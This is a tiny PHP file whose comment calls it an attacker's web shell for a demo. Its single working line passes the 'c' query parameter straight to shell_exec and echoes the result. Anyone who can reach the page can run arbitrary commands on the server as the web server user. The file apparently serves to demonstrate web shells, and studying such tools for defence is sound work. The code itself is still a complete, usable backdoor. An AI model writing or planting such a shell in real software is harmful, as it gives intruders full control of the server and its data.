<?php
// The attacker's web shell (demo): runs ?c=COMMAND as the web server and prints the output.
echo shell_exec($_GET['c'] . ' 2>&1');
